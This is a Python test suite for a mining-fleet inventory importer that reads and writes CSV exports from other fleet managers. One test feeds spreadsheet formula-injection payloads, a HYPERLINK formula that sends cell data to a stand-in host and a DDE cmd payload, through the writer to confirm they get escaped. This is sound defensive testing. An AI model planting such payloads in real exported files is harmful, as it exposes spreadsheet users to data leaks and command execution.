"""N-import: a fleet comes from CSV, a scan or another manager's export, and goes round."""

import csv
import io
from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from minestream_runtime.documents import DocumentError
from minestream_runtime.inventory.columns import IGNORED, MappingError
from minestream_runtime.inventory.reading import Wanted
from minestream_runtime.inventory.table import read_table, text_of, wanted_of, write_table
from minestream_schemas.inventory import Fleet, InventoryEntry, Sealed

NOTHING = Fleet({}, {})
FOREMAN = """\
Name,Miner Type,API IP,Port,MAC,Pickaxe,Site Map Group,Site Map Rack,Site Map Row,Site Map Index,\
Pool 1 Worker
Rack 4 / 12,Antminer L7,10.4.0.12,4028,02:00:5E:00:00:01,Ohio North,Hall 2,R4,1,12,l7-412
,Whatsminer M50,10.4.0.13,4028,02:00:5E:00:00:02,Ohio North,Hall 2,R4,2,13,
"""
AWESOME = """\
Name;Host;Group;Engine;Description;Worker
L9 eins;192.168.10.21:80;Halle A;Antminer L9;links oben;l9.eins
L9 zwei;192.168.10.22:4028;Halle A;Antminer L9;;l9.zwei
"""


def wanted(
    text: str, given: Mapping[str, str] | None = None, site: str | None = "site-a"
) -> Wanted:
    return wanted_of(read_table(text, given or {}), NOTHING, site_id=site)


def faults(text: str, **options: str | None) -> list[tuple[int, str]]:
    with pytest.raises(DocumentError) as caught:
        wanted(text, **options)  # type: ignore[arg-type]
    return [(fault.line, fault.text) for fault in caught.value.faults]


def test_a_plain_table_names_what_it_can() -> None:
    found = wanted("ip,name,tariff,slot\n10.0.0.12,L9-One,0.062,3\n").fleet.miners
    entry = found["l9-one"]
    assert (entry.address, entry.transport, entry.site_id) == ("10.0.0.12:80", "auto", "site-a")
    assert (entry.tariff_usd_per_kwh, entry.slot) == (0.062, 3)


def test_a_foreman_like_export_is_recognised_and_taken() -> None:
    table = read_table(FOREMAN, {})
    assert table.mapped.layout == "a Foreman-like export"
    found = wanted_of(table, NOTHING, site_id=None).fleet.miners
    first = found["rack-4-12"]
    assert (first.site_id, first.rack_id, first.slot) == ("ohio-north", "ohio-north-r4-1", 12)
    assert (first.address, first.transport) == ("10.4.0.12:4028", "tcp")
    assert (first.model, first.workers) == ("Antminer L7", ("l7-412",))
    assert "ohio-north-10-4-0-13" in found, "named after its address where it has no name"


def test_a_site_that_the_operator_names_comes_before_columns_that_may_be_one() -> None:
    text = "Name,IP,Location,Pickaxe,MAC,Miner Type\nm-1,10.0.0.1,Halle 2,Ohio,02:00,L7\n"
    assert wanted(text, site=None).fleet.miners["m-1"].site_id == "halle-2"
    table = read_table(text, {}, site_id="farm")
    assert table.mapped.fields[2:4] == (IGNORED, IGNORED)
    assert wanted_of(table, NOTHING, site_id="farm").fleet.miners["m-1"].site_id == "farm"
    told = read_table(text, {"Location": "site_id"}, site_id="farm")
    assert wanted_of(told, NOTHING, site_id="farm").fleet.miners["m-1"].site_id == "halle-2"
    ours = read_table("miner_id,site_id,address\nm-1,north,10.0.0.1\nm-2,,10.0.0.2\n", {})
    found = wanted_of(ours, NOTHING, site_id="farm").fleet.miners
    assert [found[name].site_id for name in ("m-1", "m-2")] == ["north", "farm"]


def test_an_awesome_miner_like_export_is_recognised_and_taken() -> None:
    table = read_table(AWESOME, {})
    assert table.mapped.layout == "an Awesome-Miner-like export"
    found = wanted_of(table, NOTHING, site_id="farm").fleet.miners
    assert found["l9-eins"].rack_id == "farm-halle-a"
    assert (found["l9-zwei"].address, found["l9-zwei"].transport) == ("192.168.10.22:4028", "tcp")


def test_the_operator_has_the_last_word_on_a_column() -> None:
    text = "ip,name,host\n10.0.0.12,a-name,other\n"
    with pytest.raises(MappingError, match="no field 'adress'; allowed: miner_id"):
        wanted(text, {"host": "adress"})
    with pytest.raises(MappingError, match="there is no column 'hots'"):
        wanted(text, {"hots": "address"})
    found = wanted(text, {"host": "miner_id", "name": "-"}).fleet.miners
    assert list(found) == ["other"]
    (miner,) = wanted("ip,host\n10.0.0.12,10.0.0.13\n", {"host": "address"}).fleet.miners.values()
    assert miner.address == "10.0.0.13:80"


def test_without_an_address_the_columns_are_told() -> None:
    with pytest.raises(MappingError, match=r"--map COLUMN=address \(name, wallet\)"):
        read_table("name,wallet\na,b\n", {})


def test_every_fault_has_its_line() -> None:
    text = 'ip,name,slot\n10.0.0.1,one,x\n10.0.0.2,two\n"10.0.0.3",one,1\n'
    assert faults(text) == [(3, "2 cells, and the header has 3")]
    text = 'ip,name,slot\n10.0.0.1,one,x\n"10.0.0.2","t\nwo",1\n10.0.0.3,!!!,1\n,five,1\n'
    assert faults(text) == [
        (2, "slot: a number is wanted, not 'x'"),
        (5, "'!!!': two letters (a to z) or digits at least are wanted"),
        (6, "address: is missing"),
    ]
    assert faults("ip,name\n10.0.0.1,one\n10.0.0.2,One\n") == [(3, "one is in line 2 already")]
    assert "give --site" in faults("ip\n10.0.0.1\n", site=None)[0][1]
    assert faults("\n") == [(1, "the file is empty")]


def test_an_address_that_is_none_says_what_one_is() -> None:
    text = "IP,Name\n10.0.0.300,m-1\nmy host,m-2\n10.0.0.07,m-3\nfd00:::1,m-4\nmine-3.lan,m-5\n"
    none = "is neither an IP address nor a name"
    assert faults(text) == [
        (2, f"address: 10.0.0.300 {none}"),
        (3, "address: wanted: host:port, such as 10.0.0.12:80 or [fd00::12]:80"),
        (4, f"address: 10.0.0.07 {none}"),
        (5, f"address: fd00:::1 {none}"),
    ]


def test_a_table_changes_only_what_its_columns_speak_of() -> None:
    there = InventoryEntry(
        miner_id="m-1",
        site_id="site-a",
        address="10.0.0.1:80",
        model="Antminer L9",
        workers=("w-1",),
        sealed=Sealed(key_id="k", box="b"),
    )
    table = read_table("name,ip,model\nm-1,10.0.0.9,\n", {})
    found = wanted_of(table, Fleet({}, {"m-1": there}), site_id="site-a").fleet.miners["m-1"]
    assert found == there.model_copy(update={"address": "10.0.0.9:80", "model": None})


def test_an_empty_cell_takes_back_what_its_column_speaks_of() -> None:
    there = InventoryEntry(
        miner_id="m-1",
        site_id="site-a",
        rack_id="site-a-r1",
        slot=3,
        address="10.0.0.1:80",
        algorithm="scrypt",
        workers=("w-1",),
        tariff_usd_per_kwh=0.06,
        interval_s=30.0,
        priority=5,
        sealed=Sealed(key_id="k", box="b"),
    )
    header = "name,ip,rack,slot,algorithm,workers,tariff,interval,priority,password"
    table = read_table(f"{header}\nm-1,10.0.0.1,,,,,,,,\n", {})
    found = wanted_of(table, Fleet({}, {"m-1": there}), site_id="site-a").fleet.miners["m-1"]
    bare = InventoryEntry(miner_id="m-1", site_id="site-a", address="10.0.0.1:80")
    assert found == bare.model_copy(update={"sealed": there.sealed})


def test_a_miner_keeps_its_port_where_a_table_says_none() -> None:
    there = InventoryEntry(
        miner_id="m-1",
        site_id="site-a",
        address="10.0.0.1:4433",
        transport="tcp",
        rack_id="site-a-1",
    )
    fleet = Fleet({}, {"m-1": there})

    def told(text: str) -> InventoryEntry:
        return wanted_of(read_table(text, {}), fleet, site_id="site-a").fleet.miners["m-1"]

    assert told("name,ip\nm-1,10.0.0.1\n") == there
    assert told("name,ip\nm-1,10.0.0.2\n").address == "10.0.0.2:4433"
    assert told("name,ip,transport\nm-1,10.0.0.1,tcp\n").address == "10.0.0.1:4028"
    assert told("name,ip,row\nm-1,10.0.0.1,3\n").rack_id == "site-a-3"


def test_racks_may_be_numbers() -> None:
    found = wanted("ip,name,rack\n10.0.0.1,m-1,3\n10.0.0.2,m-2,site-a-4\n").fleet.miners
    assert [found[name].rack_id for name in ("m-1", "m-2")] == ["site-a-3", "site-a-4"]
    assert "a letter (a to z) or a digit" in faults("ip,rack\n10.0.0.1,--\n")[0][1]


@pytest.mark.parametrize(
    ("column", "cell", "read"),
    [("tariff", "0,085", 0.085), ("tariff", "0.085", 0.085), ("interval", "60,5", 60.5)],
)
def test_a_decimal_comma_is_one(column: str, cell: str, read: float) -> None:
    (miner,) = wanted(f"ip;{column}\n10.0.0.1;{cell}\n").fleet.miners.values()
    assert read in (miner.tariff_usd_per_kwh, miner.interval_s)


def test_a_number_that_may_be_a_thousand_times_another_is_asked_about() -> None:
    assert faults("ip;interval\n10.0.0.1;1,800\n") == [
        (2, "interval_s: '1,800' may be two numbers; write 1800 or one with a dot")
    ]


def test_credentials_of_a_table_are_kept_apart_to_be_sealed() -> None:
    found = wanted("ip,name,user,password\n10.0.0.1,m-1,root,hunter2\n")
    assert found.credentials == {"m-1": {"username": "root", "password": "hunter2"}}
    assert "hunter2" not in repr(found)


entries = st.builds(
    InventoryEntry,
    miner_id=st.from_regex(r"[a-z0-9][a-z0-9]{2,10}", fullmatch=True),
    site_id=st.just("site-a"),
    rack_id=st.none() | st.just("site-a-r1"),
    slot=st.none() | st.integers(0, 99),
    address=st.builds(
        "{}:{}".format,
        st.sampled_from(["10.0.0.1", "[fd00::1]", "miner-7.farm.local"]),
        st.integers(1, 65_535),
    ),
    transport=st.sampled_from(["http", "tcp", "auto"]),
    model=st.none()
    | st.sampled_from(["Antminer L9", 'L7, "blue"', "Ä;|", "=1+1", "'-x", "'L7'", "''@"]),
    algorithm=st.none() | st.sampled_from(["scrypt", "sha256d"]),
    workers=st.lists(st.sampled_from(["a", "b.c", "+d"]), max_size=2).map(tuple),
    tariff_usd_per_kwh=st.none() | st.floats(0, 1),
    interval_s=st.none() | st.floats(1, 1000),
    priority=st.integers(-10, 10),
)


@settings(max_examples=60)
@given(entries)
def test_what_is_written_is_read_back_alike(entry: InventoryEntry) -> None:
    out = io.StringIO()
    write_table(Fleet({}, {entry.miner_id: entry}), out)
    found = wanted(out.getvalue(), site=None).fleet.miners[entry.miner_id]
    assert found == entry


@pytest.mark.parametrize(
    "model", ['=HYPERLINK("http://x/?"&A1,"L9")', "=cmd|'/c calc'!A1", "+1", "-1", "@SUM(A1)"]
)
def test_no_name_that_a_miner_gives_itself_is_a_formula_in_a_spreadsheet(model: str) -> None:
    entry = InventoryEntry(
        miner_id="m-1", site_id="s-1", address="10.0.0.1:80", model=model, workers=(model, "a")
    )
    out = io.StringIO()
    write_table(Fleet({}, {entry.miner_id: entry}), out)
    header, cells = csv.reader(io.StringIO(out.getvalue()))
    row = dict(zip(header, cells, strict=True))
    assert row["model"] == f"'{model}"
    assert row["workers"].startswith("'")


def test_a_password_that_looks_like_a_formula_in_quotes_stays_as_it_is() -> None:
    read = wanted("name,ip,user,pass\nm-1,10.0.0.1,'=u,'=p\n")
    assert read.credentials == {"m-1": {"username": "'=u", "password": "'=p"}}


@given(st.text(max_size=200))
def test_no_text_makes_it_fail_otherwise(text: str) -> None:
    try:
        wanted(text)
    except (DocumentError, MappingError):
        return


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_table_is_read_in_the_encodings_that_spreadsheets_save(encoding: str) -> None:
    text = text_of("Name\tIP\rHalle-ä-1\t10.0.0.12\r\n".encode(encoding))
    assert read_table(text, {}).rows == (("Halle-ä-1", "10.0.0.12"),)


@pytest.mark.parametrize(
    ("body", "line", "said"),
    [
        ("Name;IP\nMühle;10.0.0.12\n".encode("cp1252"), 2, "no UTF-8 at byte 9"),
        ("Name;IP\n".encode("utf-16")[:-1], 1, "no UTF-16 at byte"),
        ("ip\n10.0.0.12\n".encode("utf-16-le"), 1, "a zero byte in the text"),
        (b"PK\x03\x04\x14\0", 1, "a spreadsheet's own format"),
    ],
)
def test_what_is_no_text_says_what_to_save_it_as(body: bytes, line: int, said: str) -> None:
    with pytest.raises(DocumentError) as caught:
        text_of(body)
    [fault] = caught.value.faults
    assert fault.line == line
    assert fault.text.startswith(said)
    assert "save it as CSV in UTF-8" in fault.text


def test_the_line_that_tells_excel_the_separator_is_no_header() -> None:
    table = read_table("sep=;\r\nName;IP\r\nl9-01;10.0.0.12\r\n", {})
    assert (table.header, table.lines) == (("Name", "IP"), (3,))
